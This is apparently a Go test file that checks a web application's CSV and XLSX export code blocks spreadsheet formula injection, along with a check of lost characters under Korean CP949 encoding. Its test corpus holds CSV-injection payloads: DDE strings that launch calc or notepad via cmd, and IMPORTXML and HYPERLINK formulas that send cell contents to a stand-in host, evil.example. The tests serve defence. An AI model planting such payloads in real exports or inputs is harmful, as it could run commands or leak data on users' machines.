package sheet_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/korean"

	"gage/web/sheet"
)

// corpus is what people have typed to be run by a spreadsheet, and what only looks like it.
var corpus = []string{
	"=1+1", "=cmd|'/C calc'!A0", "+cmd|' /C notepad'!A1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")",
	"＝1+1", "＋1", "－1", "＠SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\x00=1+1", "\x1b=1+1",
	"홍길동\r\n=1+1", "홍길동\n=1+1", "a\t=1+1", "\"=1+1", ";=1+1", "a,=1+1", "'=1+1", "홍길동", "010-9999-1111", "", "-", "=", "\xff=1+1", "=\xff",
	"=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")", "  \t =1+1",
}

// formula says whether a program that reads this cell may take it for a formula.
func formula(cell string) bool {
	cell = strings.TrimLeft(cell, " \t\r\n\u00a0\ufeff\u200b\u202e\x00\x1b")
	return cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0])
}

// TestNoFormulas writes what is meant to be run, and opens the files again.
//
// proves S10
func TestNoFormulas(t *testing.T) {
	columns := []sheet.Column{{Title: "=title", Width: 10}, {Title: "won", Width: 10}, {Title: "at", Width: 20}}
	at := time.Date(2026, 11, 23, 14, 59, 1, 0, time.UTC)
	for _, asCP949 := range []bool{false, true} {
		var file bytes.Buffer
		w, err := sheet.NewCSV(&file, asCP949, columns)
		if err != nil {
			t.Fatal(err)
		}
		for i, text := range corpus {
			if err := w.Row(text, int64(i), at); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		raw := file.Bytes()
		if asCP949 {
			if raw, err = korean.EUCKR.NewDecoder().Bytes(raw); err != nil {
				t.Fatal(err)
			}
		} else if !bytes.HasPrefix(raw, []byte("\uFEFF")) {
			t.Error("no mark of UTF-8")
		}
		if n := bytes.Count(raw, []byte("\n")); n != len(corpus)+1 || bytes.Count(raw, []byte("\r\n")) != n || !utf8.Valid(raw) {
			t.Errorf("%d lines for %d rows, or not all end in CR LF", n, len(corpus)+1)
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\uFEFF")))).ReadAll()
		if err != nil || len(rows) != len(corpus)+1 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		for i, row := range rows {
			if formula(row[0]) {
				t.Errorf("the cell %q can be a formula", row[0])
			}
			if i > 0 && (row[1] != fmt.Sprint(i-1) || row[2] != "2026-11-23 23:59:01") {
				t.Errorf("row %d reads %q", i, row)
			}
		}
	}
	x, err := sheet.NewXLSX(sheet.Scratch(t.TempDir()), "결제", []string{"=line", "@line"}, columns)
	if err != nil {
		t.Fatal(err)
	}
	want := int64(0)
	for i, text := range corpus {
		want += int64(i)
		if err := x.Row(text, int64(i), at); err != nil {
			t.Fatal(err)
		}
	}
	if err := x.Foot("=sum", map[int]int64{1: want}); err != nil {
		t.Fatal(err)
	}
	var file bytes.Buffer
	if _, err := x.WriteTo(&file); err != nil {
		t.Fatal(err)
	}
	if err := x.Close(); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(&file)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := book.GetRows("결제", excelize.Options{RawCellValue: true})
	if err != nil || len(rows) != len(corpus)+4 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, row := range rows {
		for j, cell := range row {
			name, err := excelize.CoordinatesToCellName(j+1, i+1)
			if err != nil {
				t.Fatal(err)
			}
			kind, _ := book.GetCellType("결제", name)
			if words, _ := book.GetCellFormula("결제", name); words != "" && name != fmt.Sprintf("B%d", len(rows)) {
				t.Errorf("%s is the formula %q", name, words)
			}
			if formula(cell) || j == 0 && cell != "" && kind != excelize.CellTypeInlineString {
				t.Errorf("%s, %q, is of type %v or can be a formula", name, cell, kind)
			}
		}
	}
	foot := rows[len(rows)-1]
	if foot[1] != fmt.Sprint(want) {
		t.Errorf("the sum is %q, want %d", foot, want)
	}
	shown, err := book.GetRows("결제")
	if err != nil || shown[len(shown)-2][2] != "2026-11-23 23:59:01" {
		t.Errorf("a time is shown as %q, %v", shown[len(shown)-2], err)
	}
	panes, err := book.GetPanes("결제")
	if err != nil || !panes.Freeze || panes.YSplit != 3 {
		t.Errorf("the titles don't stay: %+v, %v", panes, err)
	}
}

// TestLost: what CP949 can't carry is told by its row, and stands there as a question mark.
func TestLost(t *testing.T) {
	var file bytes.Buffer
	w, err := sheet.NewCSV(&file, true, []sheet.Column{{Title: "이름"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"똠방각하", "😀웃음😀", "é", "홍길동"} {
		if err := w.Row(name); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	lost, rows := w.Lost()
	if want := []sheet.Lost{{Row: 3, Text: "😀"}, {Row: 3, Text: "😀"}, {Row: 4, Text: "é"}}; rows != 2 || !slices.Equal(lost, want) {
		t.Errorf("lost %v in %d rows", lost, rows)
	}
	back, err := korean.EUCKR.NewDecoder().String(file.String())
	if err != nil || back != "이름\r\n똠방각하\r\n?웃음?\r\n?\r\n홍길동\r\n" {
		t.Errorf("%q, %v", back, err)
	}
}
